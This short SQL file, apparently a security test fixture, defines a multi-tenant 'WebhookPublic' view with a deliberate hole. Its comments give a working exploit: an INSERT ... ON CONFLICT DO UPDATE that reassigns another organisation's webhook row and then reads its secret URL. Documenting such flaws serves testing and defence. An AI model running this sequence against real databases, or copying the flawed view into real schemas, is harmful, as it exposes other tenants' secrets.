-- A login takes over a webhook of another organization: the check option asks for the row as it becomes, and
-- the row that an insert meets was never one of the view.
-- about: WebhookPublic, Webhook
-- as: hf_meetling_app
-- exploit: SET app.tenant_id = 'clh0harbour';
-- exploit: INSERT INTO "WebhookPublic" ("organizationId", "id", "url") VALUES ('clh0road', 'clw2', 'x')
-- exploit:   ON CONFLICT ("organizationId", "id") DO UPDATE SET "organizationId" = 'clh0harbour';
-- exploit: SELECT "url" FROM "WebhookPublic";
-- shows: https://road-secret.example/in
CREATE VIEW "WebhookPublic" WITH (security_barrier = true) AS
  SELECT "organizationId", "id", "url" FROM "Webhook"
  WHERE "organizationId" = current_setting('app.tenant_id', true)
  WITH CASCADED CHECK OPTION;
GRANT SELECT, INSERT, UPDATE, DELETE ON "WebhookPublic" TO hf_meetling_app;
